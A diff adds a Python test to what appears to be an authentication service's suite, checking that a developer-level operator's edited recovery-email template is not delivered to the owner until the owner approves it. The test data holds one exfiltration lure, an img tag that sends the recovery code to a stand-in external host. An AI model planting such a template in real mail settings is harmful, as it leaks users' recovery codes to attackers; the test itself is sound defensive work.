@@ -166,6 +166,29 @@ def test_a_template_that_fails_for_somebody_gives_way_to_the_default_and_tells_n
     assert mails.wait("cid@example.org")["Subject"] == "Hello"
 
 
+def test_88_nobody_with_fewer_rights_writes_to_an_operator(
+    start: Start, over: dict[str, Any], mails: MailServer
+) -> None:
+    server, place = start(over, watch_courier=True), f"{PLACE}/recovery_code_valid"
+    owner, developer = operator(server, "owner"), operator(server, "developer")
+    Caller(server, "app").sign_up(ANN)
+    lure = {"body_html": '<img src="https://elsewhere.example.net/?{{ .RecoveryCode }}">'}
+    put(developer, lure, place)
+    for address in (ANN, OWNER, "developer@example.org"):
+        mails.wait(address)
+
+    def arrives(address: str) -> str:
+        mails.mails.clear()
+        recover(server, address)
+        return html_of(mails.wait(address))
+
+    assert "elsewhere.example.net" in arrives(ANN)
+    assert "elsewhere.example.net" in arrives("developer@example.org"), "among equals nothing is gained"
+    assert "elsewhere.example.net" not in arrives(OWNER)
+    assert put(owner, lure, place)["version"] == 2
+    assert "elsewhere.example.net" in arrives(OWNER), "an owner stands for it now"
+
+
 def test_every_node_has_it_at_once_also_a_courier_of_its_own(
     database: str, start: Start, over: dict[str, Any], mails: MailServer, tmp_path: Path
 ) -> None:
